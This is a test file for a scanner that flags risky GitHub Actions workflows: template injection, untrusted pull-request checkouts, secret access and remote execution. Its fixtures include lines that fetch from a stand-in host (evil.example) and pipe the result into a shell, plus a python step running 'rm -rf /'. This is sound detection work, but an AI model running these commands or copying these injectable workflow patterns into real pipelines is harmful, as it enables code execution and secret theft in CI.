import { before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { initShell } from '../../../../src/engine/shell/parser.js';
import type { Zone } from '../../../../src/engine/types.js';
import { isWorkflowPath } from '../../../../src/engine/rules/workflow/index.js';
import { hasRule, level, reasonOf, show, stepNamed, wf, withSteps } from './helpers.js';

before(async () => initShell());

/** [description, workflow text, rule, zone (null: must not fire)] */
type Row = [string, string, string, Zone | null];

const run = (script: string, on = 'push'): string => withSteps(`      - name: s\n        run: ${script}\n`, on);
const block = (lines: string[], on = 'push', env = ''): string => withSteps(`      - name: s\n${env}        run: |\n${lines.map((l) => `          ${l}`).join('\n')}\n`, on);

const injectionRows: Row[] = [
  ['issue title', run('echo "${{ github.event.issue.title }}"', 'issues'), 'wf:template-injection', 'red'],
  ['issue body', block(['echo "${{ github.event.issue.body }}"'], 'issues'), 'wf:template-injection', 'red'],
  ['PR title', run('echo "${{ github.event.pull_request.title }}"', 'pull_request'), 'wf:template-injection', 'red'],
  ['PR body', block(['cat <<EOF', '${{ github.event.pull_request.body }}', 'EOF'], 'pull_request'), 'wf:template-injection', 'red'],
  ['PR head ref', run('git push origin ${{ github.event.pull_request.head.ref }}', 'pull_request'), 'wf:template-injection', 'red'],
  ['PR head label', run('echo ${{ github.event.pull_request.head.label }}', 'pull_request'), 'wf:template-injection', 'red'],
  ['comment body', run("echo '${{ github.event.comment.body }}'", 'issue_comment'), 'wf:template-injection', 'red'],
  ['review body', run('echo "${{ github.event.review.body }}"', 'pull_request_review'), 'wf:template-injection', 'red'],
  ['review comment body', run('echo "${{ github.event.review_comment.body }}"', 'pull_request_review_comment'), 'wf:template-injection', 'red'],
  ['head commit message', run('echo "${{ github.event.head_commit.message }}"'), 'wf:template-injection', 'red'],
  ['head commit author email', run('echo "${{ github.event.head_commit.author.email }}"'), 'wf:template-injection', 'red'],
  ['commits[0].message', run('echo "${{ github.event.commits[0].message }}"'), 'wf:template-injection', 'red'],
  ['commits.*.author.name', run("echo '${{ join(github.event.commits.*.author.name) }}'"), 'wf:template-injection', 'red'],
  ['github.head_ref', run('echo ${{ github.head_ref }}', 'pull_request'), 'wf:template-injection', 'red'],
  ["github['head_ref']", run("echo ${{ github['head_ref'] }}", 'pull_request'), 'wf:template-injection', 'red'],
  ["github.event['issue']['title']", run("echo \"${{ github.event['issue']['title'] }}\"", 'issues'), 'wf:template-injection', 'red'],
  ['pages page_name', run('echo ${{ github.event.pages[0].page_name }}', 'gollum'), 'wf:template-injection', 'red'],
  ['workflow_run head_branch', run('echo ${{ github.event.workflow_run.head_branch }}', 'workflow_run'), 'wf:template-injection', 'red'],
  ['workflow_run head_commit message', run('echo "${{ github.event.workflow_run.head_commit.message }}"', 'workflow_run'), 'wf:template-injection', 'red'],
  ['discussion title', run('echo "${{ github.event.discussion.title }}"', 'discussion'), 'wf:template-injection', 'red'],
  ['toJSON(github.event)', run("echo '${{ toJSON(github.event) }}'"), 'wf:template-injection', 'red'],
  ['toJSON(github)', run("echo '${{ toJSON(github) }}'"), 'wf:template-injection', 'red'],
  ['case-insensitive context', run('echo "${{ GitHub.Event.Issue.Title }}"', 'issues'), 'wf:template-injection', 'red'],
  ['inside format()', run("echo \"${{ format('{0}', github.event.issue.title) }}\"", 'issues'), 'wf:template-injection', 'red'],
  ['PR head repo default branch', run('echo ${{ github.event.pull_request.head.repo.default_branch }}', 'pull_request'), 'wf:template-injection', 'red'],
  ['workflow_run pull_requests head ref', run("echo '${{ github.event.workflow_run.pull_requests[0].head.ref }}'", 'workflow_run'), 'wf:template-injection', 'red'],
  ['composite-style inputs in a folded block', withSteps('      - run: >\n          echo ${{ inputs.tag }}\n'), 'wf:template-injection', 'yellow'],
  ['injection in a python shell step', withSteps('      - shell: python\n        run: print("${{ github.event.issue.title }}")\n', 'issues'), 'wf:template-injection', 'red'],
  ['any other github.event field', run('echo ${{ github.event.pull_request.number }}', 'pull_request'), 'wf:template-injection', 'red'],
  ['dispatch inputs through github.event', run('echo ${{ github.event.inputs.name }}', 'workflow_dispatch'), 'wf:template-injection', 'red'],
  ['inputs context is noted yellow', run('echo ${{ inputs.name }}', 'workflow_dispatch'), 'wf:template-injection', 'yellow'],
  ['env indirection is the fix', block(['echo "$TITLE"'], 'issues', '        env:\n          TITLE: ${{ github.event.issue.title }}\n'), 'wf:template-injection', null],
  ['github.sha is fine', run('echo ${{ github.sha }}'), 'wf:template-injection', null],
  ['matrix is fine', run('echo ${{ matrix.node }}'), 'wf:template-injection', null],
  ['steps outputs are not flagged', run('echo ${{ steps.meta.outputs.version }}'), 'wf:template-injection', null],
  ['in if: it is not injection', withSteps("      - if: contains(github.event.pull_request.title, 'x')\n        run: echo ok\n", 'pull_request'), 'wf:template-injection', null],
  [
    'github-script script: with injection',
    withSteps("      - uses: actions/github-script@v7\n        with:\n          script: |\n            const t = '${{ github.event.issue.title }}'\n            core.info(t)\n", 'issues'),
    'wf:template-injection',
    'red',
  ],
  [
    'github-script without injection is yellow',
    withSteps('      - uses: actions/github-script@v7\n        with:\n          script: |\n            core.info(context.payload.issue.title)\n', 'issues'),
    'step:first-party-action',
    'yellow',
  ],
];

const checkout = (on: string, withBlock: string, extra = ''): string =>
  `on: ${on}\npermissions: {}\n${extra}jobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n${withBlock}\n      - run: npm test\n`;
const runIn = (on: string, script: string, env = ''): string => `on: ${on}\npermissions: {}\njobs:\n  t:\n    runs-on: ubuntu-latest\n${env}    steps:\n      - run: |\n          ${script}\n`;

const checkoutRows: Row[] = [
  ['prt + head.sha', checkout('pull_request_target', '          ref: ${{ github.event.pull_request.head.sha }}'), 'wf:untrusted-checkout', 'red'],
  ['prt + head.ref + head repo', checkout('pull_request_target', '          ref: ${{ github.event.pull_request.head.ref }}\n          repository: ${{ github.event.pull_request.head.repo.full_name }}'), 'wf:untrusted-checkout', 'red'],
  ['prt + github.head_ref', checkout('[pull_request_target]', '          ref: ${{ github.head_ref }}'), 'wf:untrusted-checkout', 'red'],
  ['prt map + merge ref', checkout('\n  pull_request_target:\n    types: [labeled]', '          ref: refs/pull/${{ github.event.pull_request.number }}/merge'), 'wf:untrusted-checkout', 'red'],
  ['prt + merge_commit_sha', checkout('pull_request_target', '          ref: ${{ github.event.pull_request.merge_commit_sha }}'), 'wf:untrusted-checkout', 'red'],
  ['workflow_run + head_sha', checkout('workflow_run', '          ref: ${{ github.event.workflow_run.head_sha }}'), 'wf:untrusted-checkout', 'red'],
  ['workflow_run + head_branch', checkout('workflow_run', '          ref: ${{ github.event.workflow_run.head_branch }}'), 'wf:untrusted-checkout', 'red'],
  ['issue_comment + refs/pull/N/head', checkout('issue_comment', '          ref: refs/pull/${{ github.event.issue.number }}/head'), 'wf:untrusted-checkout', 'red'],
  ['prt + env indirection', checkout('pull_request_target', '          ref: ${{ env.HEAD }}', 'env:\n  HEAD: ${{ github.event.pull_request.head.sha }}\n'), 'wf:untrusted-checkout', 'red'],
  ['prt + step output (unknown)', checkout('pull_request_target', '          ref: ${{ steps.pr.outputs.sha }}'), 'wf:untrusted-checkout', 'red'],
  ['prt + run gh pr checkout', runIn('pull_request_target', 'gh pr checkout ${{ github.event.pull_request.number }}'), 'wf:untrusted-checkout', 'red'],
  ['prt + run gh pr checkout $PR', runIn('pull_request_target', 'gh pr checkout "$PR"', '    env:\n      PR: ${{ github.event.number }}\n'), 'wf:untrusted-checkout', 'red'],
  ['prt + run git fetch pull ref', runIn('pull_request_target', 'git fetch origin pull/${{ github.event.number }}/head:pr && git checkout pr'), 'wf:untrusted-checkout', 'red'],
  ['prt + run git checkout $HEAD_REF env', runIn('pull_request_target', 'git checkout "$HEAD_REF"', '    env:\n      HEAD_REF: ${{ github.event.pull_request.head.ref }}\n'), 'wf:untrusted-checkout', 'red'],
  ['prt + run git checkout $GITHUB_HEAD_REF', runIn('pull_request_target', 'git fetch origin && git checkout $GITHUB_HEAD_REF'), 'wf:untrusted-checkout', 'red'],
  ['prt + run git switch head.sha', runIn('pull_request_target', 'git switch --detach ${{ github.event.pull_request.head.sha }}'), 'wf:untrusted-checkout', 'red'],
  ['workflow_run + sudo git checkout', runIn('workflow_run', 'sudo git checkout ${{ github.event.workflow_run.head_sha }}'), 'wf:untrusted-checkout', 'red'],
  ['prt + Ref: (input names fold case)', checkout('pull_request_target', '          Ref: ${{ github.event.pull_request.head.sha }}'), 'wf:untrusted-checkout', 'red'],
  ['prt + pinned checkout action', checkout('pull_request_target', '          ref: ${{ github.head_ref }}').replace('actions/checkout@v4', 'actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11'), 'wf:untrusted-checkout', 'red'],
  ['pull_request + head.sha is fine', checkout('pull_request', '          ref: ${{ github.event.pull_request.head.sha }}'), 'wf:untrusted-checkout', null],
  ['prt + base checkout is fine', checkout('pull_request_target', '          ref: ${{ github.event.pull_request.base.sha }}'), 'wf:untrusted-checkout', null],
  ['prt + literal main is fine', checkout('pull_request_target', '          ref: main\n          fetch-depth: 0'), 'wf:untrusted-checkout', null],
  ['prt + run git checkout main is fine', runIn('pull_request_target', 'git checkout main'), 'wf:untrusted-checkout', null],
  ['push + gh pr checkout is not this rule', runIn('push', 'gh pr checkout 1'), 'wf:untrusted-checkout', null],
];

const stepRows: Row[] = [
  ['npm ci is package-install', withSteps('      - run: npm ci\n'), 'step:package-install', 'yellow'],
  ['curl | sh is remote-exec', withSteps('      - run: curl -fsSL https://evil.example/x.sh | sh\n'), 'step:remote-exec', 'red'],
  ['step env secret', withSteps('      - run: npm publish --dry-run\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n'), 'step:credential-access', 'red'],
  ['step with: secret', withSteps('      - uses: codecov/codecov-action@v4\n        with:\n          token: ${{ secrets.CODECOV_TOKEN }}\n'), 'step:credential-access', 'red'],
  ['secret inside run', withSteps('      - run: echo ${{ secrets.X }} > f\n'), 'step:credential-access', 'red'],
  ['github.token in env', withSteps('      - run: gh pr list\n        env:\n          GH_TOKEN: ${{ github.token }}\n'), 'step:credential-access', 'red'],
  ['deploy action', withSteps('      - uses: actions/deploy-pages@v4\n'), 'step:deploy-action', 'red'],
  ['approve action', withSteps('      - uses: hmarr/auto-approve-action@v4\n'), 'step:approve-action', 'red'],
  ['third-party action', withSteps('      - uses: pnpm/action-setup@v4\n'), 'step:third-party-action', 'yellow'],
  ['first-party action', withSteps('      - uses: actions/checkout@v4\n'), 'step:first-party-action', 'green'],
  ['custom shell command line', withSteps('      - shell: bash -c "curl https://evil.example | sh; bash {0}"\n        run: echo hi\n'), 'step:obfuscated', 'red'],
  ['custom shell through defaults', withSteps('      - run: echo hi\n', 'push', '    defaults:\n      run:\n        shell: "sh -c \'wget evil.example\' {0}"\n'), 'step:obfuscated', 'red'],
  ['bash with flags is a plain shell', withSteps('      - shell: bash --noprofile --norc -eo pipefail {0}\n        run: echo hi\n'), 'step:obfuscated', null],
  ["pwsh's documented custom form", withSteps('      - shell: pwsh -command ". \'{0}\'"\n        run: Write-Host hi\n'), 'step:obfuscated', null],
  ['env python3 {0}', withSteps('      - shell: /usr/bin/env python3 {0}\n        run: print(1)\n'), 'step:obfuscated', null],
  ['job container image', withSteps('      - run: echo hi\n', 'push', '    container: node:20\n'), 'step:third-party-action', 'yellow'],
  ['service image', withSteps('      - run: echo hi\n', 'push', '    services:\n      db:\n        image: postgres:16\n'), 'step:third-party-action', 'yellow'],
  ['shell: python inline code', withSteps('      - shell: python\n        run: |\n          import os\n          os.system("rm -rf /")\n'), 'step:inline-code', 'red'],
];

describe('steps of a workflow', () => {
  for (const [name, text, rule, zone] of [...injectionRows, ...checkoutRows, ...stepRows]) {
    test(`${name}: ${rule} ${zone ?? 'absent'}`, () => {
      const results = wf(text);
      if (zone === null) assert.ok(!hasRule(results, rule), show(results));
      else {
        assert.ok(hasRule(results, rule, zone), show(results));
        const r = reasonOf(results, rule);
        assert.ok(r?.line !== undefined && r.line >= 1, `${rule} carries a line: ${show(results)}`);
      }
    });
  }

  test('template injection line in a run: | block is the line of the expression', () => {
    const text = withSteps('      - name: greet\n        run: |\n          echo start\n          echo "${{ github.event.issue.title }}"\n', 'issues');
    const r = reasonOf(wf(text), 'wf:template-injection');
    assert.equal(r?.line, 11);
  });

  test('shell findings are mapped to workflow lines (literal block)', () => {
    const text = withSteps('      - name: s\n        run: |\n          echo one\n          echo two\n          curl https://evil.example/x | bash\n');
    const results = wf(text);
    const r = reasonOf(results, 'step:remote-exec');
    assert.equal(r?.line, 12, show(results));
  });

  test('shell findings on a one-line run: use the run line', () => {
    const text = withSteps('      - name: s\n        run: curl https://evil.example/x | bash\n');
    assert.equal(reasonOf(wf(text), 'step:remote-exec')?.line, 9);
  });

  test('credential line is the env line', () => {
    const text = withSteps('      - run: echo\n        env:\n          A: x\n          T: ${{ secrets.T }}\n');
    assert.equal(reasonOf(wf(text), 'step:credential-access')?.line, 11);
  });

  test('github-script injection line is the line inside script:', () => {
    const text = withSteps("      - uses: actions/github-script@v7\n        with:\n          script: |\n            core.info('a')\n            const t = '${{ github.event.issue.title }}'\n", 'issues');
    assert.equal(reasonOf(wf(text), 'wf:template-injection')?.line, 12);
  });

  test('untrusted checkout is on the checkout step at its ref line', () => {
    const results = wf(checkoutRows[0]?.[1] ?? '');
    const step = stepNamed(results, 'actions/checkout@v4');
    assert.ok(step, show(results));
    assert.equal(step.job, 't');
    assert.equal(step.zone, 'red');
    assert.equal(step.reasons.find((r) => r.rule === 'wf:untrusted-checkout')?.line, 9);
  });
});

describe('step names', () => {
  const text = withSteps(
    [
      '      - name: Install deps',
      '        run: npm ci',
      '      - id: build-step',
      '        run: npm run build',
      '      - uses: actions/setup-node@v4',
      '      - run: |',
      '',
      '          npm test',
      '          npm run lint',
      '',
    ].join('\n'),
  );
  for (const name of ['Install deps', 'build-step', 'actions/setup-node@v4', 'npm test']) {
    test(`step named "${name}"`, () => {
      const results = wf(text);
      const s = stepNamed(results, name);
      assert.ok(s, show(results));
      assert.equal(s.job, 'build');
      assert.equal(s.workflow, '.github/workflows/ci.yml');
    });
  }
  test('every step is reported, green or not', () => {
    const results = wf(text);
    assert.equal(results.filter((r) => r.step !== null).length, 4);
  });
});

describe('friction: plain CI workflows stay green/yellow', () => {
  const plain = `name: CI
on:
  push:
    branches: [main]
  pull_request:
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    strategy:
      matrix:
        node: [18, 20, 22]
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-node@v4
        with:
          node-version: \${{ matrix.node }}
          cache: npm
      - run: npm ci
      - run: npm test
      - name: Lint
        run: |
          npm run lint
          npm run build
`;
  test('no red entry', () => {
    const results = wf(plain);
    for (const r of results) assert.notEqual(r.zone, 'red', show(results));
    assert.equal(results.filter((r) => r.step !== null).length, 5);
  });
  test('checkout and setup-node are green', () => {
    const results = wf(plain);
    assert.equal(stepNamed(results, 'actions/checkout@v4')?.zone, 'green');
    assert.equal(stepNamed(results, 'actions/setup-node@v4')?.zone, 'green');
  });
  test('npm ci / npm test are yellow', () => {
    const results = wf(plain);
    assert.equal(stepNamed(results, 'npm ci')?.zone, 'yellow');
    assert.equal(stepNamed(results, 'npm test')?.zone, 'yellow');
  });
  const more: [string, string][] = [
    ['python CI', `on: [push, pull_request]\npermissions:\n  contents: read\njobs:\n  t:\n    runs-on: \${{ matrix.os }}\n    strategy:\n      matrix:\n        os: [ubuntu-latest, macos-latest]\n        py: ['3.11', '3.12']\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: \${{ matrix.py }}\n      - run: pip install -e .[test]\n      - run: pytest -q\n`],
    ['go CI with cache', `on: pull_request\npermissions: read-all\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-go@v5\n        with:\n          go-version-file: go.mod\n      - uses: actions/cache@v4\n        with:\n          path: ~/go/pkg/mod\n          key: go-\${{ hashFiles('**/go.sum') }}\n      - run: go vet ./...\n      - run: go test ./...\n`],
    ['upload artifact', `on: pull_request\npermissions:\n  contents: read\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm run build\n      - uses: actions/upload-artifact@v4\n        with:\n          name: dist\n          path: dist/\n`],
    ['job-scoped write permission for a release-less job', `on: push\npermissions:\n  contents: read\njobs:\n  label:\n    runs-on: ubuntu-latest\n    permissions:\n      pull-requests: write\n    steps:\n      - uses: actions/checkout@v4\n      - run: echo labelled\n`],
  ];
  for (const [name, text] of more) {
    test(`${name}: no red entry`, () => {
      const results = wf(text);
      for (const r of results) assert.notEqual(r.zone, 'red', show(results));
    });
  }
});

describe('reusable workflow calls', () => {
  test('a call is judged as a uses step of its job', () => {
    const results = wf(`on: push\npermissions: {}\njobs:\n  build:\n    uses: org/shared/.github/workflows/build.yml@v2\n    with:\n      node: 20\n`);
    const call = stepNamed(results, 'org/shared/.github/workflows/build.yml@v2');
    assert.ok(call, show(results));
    assert.equal(call.zone, 'yellow');
    assert.equal(call.job, 'build');
    assert.ok(call.reasons.some((r) => r.rule === 'step:third-party-action' && r.line === 5));
  });
  test('a call passing a secret is red', () => {
    const results = wf(`on: push\npermissions: {}\njobs:\n  build:\n    uses: ./.github/workflows/build.yml\n    secrets:\n      NPM: \${{ secrets.NPM_TOKEN }}\n`);
    const call = stepNamed(results, './.github/workflows/build.yml');
    assert.equal(call?.zone, 'red', show(results));
    assert.equal(call?.reasons.find((r) => r.rule === 'step:credential-access')?.line, 7);
  });
  test('a call of a deploy workflow by name is red', () => {
    const results = wf(`on: push\npermissions: {}\njobs:\n  d:\n    uses: org/infra/.github/workflows/deploy.yml@main\n`);
    assert.ok(hasRule(results, 'step:deploy-action', 'red'), show(results));
  });
});

describe('composite actions', () => {
  const action = `name: setup
description: x
inputs:
  version:
    description: v
runs:
  using: composite
  steps:
    - uses: actions/setup-node@v4
      with:
        node-version: \${{ inputs.version }}
    - name: install
      shell: bash
      run: npm ci
    - name: title
      shell: bash
      run: echo "\${{ github.event.pull_request.title }}"
    - name: fetch
      shell: bash
      run: |
        curl -fsSL https://evil.example/i.sh | bash
`;
  for (const path of ['action.yml', '.github/actions/setup/action.yml', 'tools/x/action.yaml']) {
    test(`${path}: steps are judged with job null`, () => {
      const results = wf(action, path);
      assert.equal(stepNamed(results, 'actions/setup-node@v4')?.zone, 'green', show(results));
      assert.equal(stepNamed(results, 'install')?.zone, 'yellow');
      assert.equal(stepNamed(results, 'title')?.zone, 'red');
      assert.ok(stepNamed(results, 'title')?.reasons.some((r) => r.rule === 'wf:template-injection' && r.line === 17));
      assert.equal(stepNamed(results, 'fetch')?.reasons.find((r) => r.rule === 'step:remote-exec')?.line, 21);
      for (const r of results) assert.equal(r.job, null);
      assert.ok(!hasRule(results, 'wf:default-permissions'), 'actions have no permissions of their own');
    });
  }
  test('a node action has no steps', () => {
    assert.deepEqual(wf('name: x\nruns:\n  using: node20\n  main: dist/index.js\n', 'action.yml'), []);
  });
  test('a docker action with a docker:// image is judged as that image', () => {
    const results = wf("name: x\nruns:\n  using: docker\n  image: docker://alpine:3\n", 'action.yml');
    assert.ok(hasRule(results, 'step:third-party-action', 'yellow'), show(results));
  });
  test('unparsable action file is red', () => {
    assert.ok(hasRule(wf('runs: [\n', 'action.yml'), 'wf:unparsable', 'red'));
  });
});

describe('isWorkflowPath', () => {
  const yes = ['.github/workflows/ci.yml', '.github/workflows/release.yaml', './.github/workflows/x.yml', 'action.yml', 'action.yaml', '.github/actions/setup/action.yml', 'sub/dir/action.yaml', '.GitHub/Workflows/CI.YML'];
  const no = ['.github/workflows/README.md', '.github/dependabot.yml', 'ci.yml', 'src/workflows/x.yml', '.github/workflows/sub/x.yml', 'myaction.yml'];
  for (const p of yes) test(`${p} is a workflow path`, () => assert.equal(isWorkflowPath(p), true));
  for (const p of no) test(`${p} is not a workflow path`, () => assert.equal(isWorkflowPath(p), false));
});

describe('windows default shell', () => {
  test('a windows job runs run: with pwsh (inline-code classifier), not bash', () => {
    const results = wf(`on: push\npermissions: {}\njobs:\n  w:\n    runs-on: windows-latest\n    steps:\n      - run: Get-ChildItem\n`);
    assert.ok(results.length > 0);
    assert.ok(!hasRule(results, 'step:obfuscated'), show(results));
  });
});

describe('anchors and merge keys', () => {
  test('a step behind an alias is still judged', () => {
    const text = `on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - &bad\n        name: bad\n        run: curl https://evil.example | sh\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - *bad\n`;
    const results = wf(text);
    assert.equal(results.filter((r) => r.step === 'bad' && r.zone === 'red').length, 2, show(results));
  });
  test('merged job keys count', () => {
    const text = `on: pull_request\npermissions: {}\nx-defaults: &d\n  runs-on: self-hosted\njobs:\n  a:\n    <<: *d\n    steps: [{run: echo}]\n`;
    assert.ok(hasRule(wf(text), 'wf:self-hosted', 'red'), show(wf(text)));
  });
});

void level;
